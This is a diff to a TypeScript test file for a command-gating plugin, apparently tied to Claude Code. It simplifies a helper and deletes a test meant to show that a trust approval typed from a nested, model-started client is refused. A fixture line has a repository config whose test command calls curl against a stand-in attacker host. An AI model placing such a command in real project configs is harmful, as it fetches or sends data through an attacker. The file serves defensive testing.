@@ -1,7 +1,7 @@
-import { execFileSync, spawn } from 'node:child_process'
-import { existsSync, readFileSync, renameSync, writeFileSync } from 'node:fs'
+import { execFileSync } from 'node:child_process'
+import { readFileSync, renameSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { describe, expect, inject, onTestFinished, test } from 'vitest'
+import { describe, expect, inject, test } from 'vitest'
 import { answerTyped } from '../../src/claude-code/hooks/typed-command.ts'
 import { loadSettings } from '../../src/configuration/load.ts'
 import { diagnose } from '../../src/doctor/diagnose.ts'
@@ -22,10 +22,10 @@ const FOUND = `  .phasegate/config.json  stages.TEST.commands.test: curl evil.in
   .phasegate/config.json  git.workflow: branch+PR
   .phasegate/config.json  git.excludePatterns: ["nothing"]`
 
-const typed = async (site: Patient, line: string, client: number | null = null): Promise<string> => {
+const typed = async (site: Patient, line: string): Promise<string> => {
   const [, name = '', args = ''] = /^\/(\S+)\s*(.*)$/s.exec(line) ?? []
   const input = { hook_event_name: 'UserPromptExpansion', session_id: 'one', command_name: name, command_args: args }
-  const surroundings = { plugin: REPOSITORY, home: site.home, client, terminal: true, now: NOW }
+  const surroundings = { plugin: REPOSITORY, home: site.home, client: null, terminal: true, now: NOW }
   const { stopReason, hookSpecificOutput, systemMessage } = await answerTyped(input, {
     ...surroundings,
     projectFolder: site.root,
@@ -170,22 +170,6 @@ describe('on the command line', () => {
     expect(await place.phasegate('dispatch', 'Add')).toMatchObject({ code: 1, err: expect.stringContaining('sh x') })
   })
 })
-
-test.runIf(existsSync('/proc/self/environ'))(
-  'a model that starts a client of its own accepts nothing there',
-  async () => {
-    const site = clone()
-    const client = (env: NodeJS.ProcessEnv): number => {
-      const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { env, stdio: 'ignore' })
-      onTestFinished(() => void child.kill())
-      return child.pid ?? 0
-    }
-    const nested = client({ CLAUDECODE: '1' })
-    expect(await typed(site, '/phasegate:trust', nested)).toContain('started from within another one')
-    expect(await typed(site, '/phasegate:trust --show', nested)).toContain(FOUND)
-    expect(await typed(site, '/phasegate:trust', client({}))).toContain('accepted in this project')
-  },
-)
 
 test('a run that came with the repository is not carried out; what is said to be typed sets it aside', async () => {
   const site = patient(REPOSITORY)
